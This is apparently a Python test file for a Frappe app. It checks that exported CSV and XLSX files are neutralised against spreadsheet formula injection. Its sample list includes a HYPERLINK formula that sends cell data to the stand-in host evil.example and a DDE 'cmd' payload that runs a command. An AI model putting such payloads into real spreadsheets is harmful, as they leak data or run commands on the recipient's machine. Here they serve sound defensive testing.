"""What is exported holds no formula: a spreadsheet shows what people wrote, and runs none of it."""

import csv
from io import BytesIO, StringIO

import frappe
import openpyxl
from frappe.utils.csvutils import to_csv
from frappe.utils.xlsxutils import make_xlsx
from werkzeug.wrappers import Response

from case_management.case_management.guard.exports import disarm, is_formula
from case_management.tests.base import CaseTestCase

FORMULAS = (
	'=HYPERLINK("http://evil.example/?"&A1,"Click")',
	"+cmd|' /C calc'!A0",
	"-1+HYPERLINK(A1)",
	"@SUM(A1:A9)",
	"\t=1+1",
	"\r=1+1",
	" =1+1",
)
HARMLESS = (
	"-5",
	"+61 400 000 000",
	"-1,234.50",
	"(02) 9000 0000",
	"2026-11-22",
	"A-1",
	"",
	"a=b",
	"-",
	"50 %",
)


class TestExports(CaseTestCase):
	def export(self, name: str, content: bytes, **asked: str) -> bytes:
		"""Return a download as the hook leaves it, of a request for a DocType of the app."""
		frappe.local.form_dict = frappe._dict({"doctype": "Support Program", **asked})
		response = Response(content)
		response.headers.add("Content-Disposition", "attachment", filename=name)
		disarm(response=response)
		return response.data

	def read_csv(self, content: bytes, **options: str) -> list[list[str]]:
		return list(csv.reader(StringIO(content.decode(), newline=""), **options))

	def test_a_formula_is_known_from_a_number(self) -> None:
		self.assertEqual([text for text in FORMULAS if not is_formula(text)], [])
		self.assertEqual([text for text in HARMLESS if is_formula(text)], [])

	def test_csv_has_an_apostrophe_before_each_formula(self) -> None:
		content = self.export(
			"Programs.csv", to_csv([["Name", "Places"], *[[text, 5] for text in FORMULAS]]).encode()
		)
		rows = self.read_csv(content)
		self.assertEqual(rows[0], ["Name", "Places"])
		for text, row in zip(FORMULAS, rows[1:], strict=True):
			self.assertEqual(row, [f"'{text}", "5"])

	def test_csv_with_another_delimiter_is_read_by_it(self) -> None:
		content = self.export("Programs.csv", b'1;"=1+1"\r\n', csv_delimiter=";", csv_quoting="2")
		self.assertEqual(self.read_csv(content, delimiter=";"), [["1", "'=1+1"]])

	def test_a_file_without_formulas_is_left_as_it_is(self) -> None:
		for content in (b'1,"A","-5"\r\n', b"", "é,ß\r\n".encode()):
			self.assertEqual(self.export("Programs.csv", content), content)
		book = make_xlsx([["A", "-5", 3]], "Sheet").getvalue()
		self.assertEqual(self.export("Programs.xlsx", book), book)

	def test_xlsx_has_text_where_a_formula_was(self) -> None:
		book = make_xlsx([["Name", "Places"], *[[text, 5] for text in FORMULAS]], "Sheet").getvalue()
		cells = openpyxl.load_workbook(BytesIO(book)).active
		self.assertIn("f", {row[0].data_type for row in cells.iter_rows()}, "Frappe writes formulas")
		cells = openpyxl.load_workbook(BytesIO(self.export("Programs.xlsx", book))).active
		self.assertEqual({row[0].data_type for row in cells.iter_rows()}, {"s"})
		self.assertEqual([row[1].value for row in cells.iter_rows()][1:], [5] * len(FORMULAS))
		self.assertEqual(cells["A2"].value, FORMULAS[0])

	def test_a_report_of_the_app_is_meant_too_and_another_apps_download_is_not(self) -> None:
		report = self.export("Report.csv", b"=1+1\r\n", doctype="", report_name="Waiting List")
		self.assertEqual(report, b"'=1+1\r\n".replace(b"'=1+1", b'"\'=1+1"'))
		self.assertEqual(self.export("Users.csv", b"=1+1\r\n", doctype="User"), b"=1+1\r\n")

	def test_what_is_no_download_is_left_alone(self) -> None:
		disarm(response=None)
		self.assertEqual(self.export("picture.png", b"=1+1"), b"=1+1")
		self.assertEqual(self.export("broken.xlsx", b"=1+1"), b"=1+1")

	def test_every_way_to_export_goes_through_it(self) -> None:
		hooks = frappe.get_hooks("after_request")
		self.assertIn("case_management.case_management.looking.answered.finish", hooks)
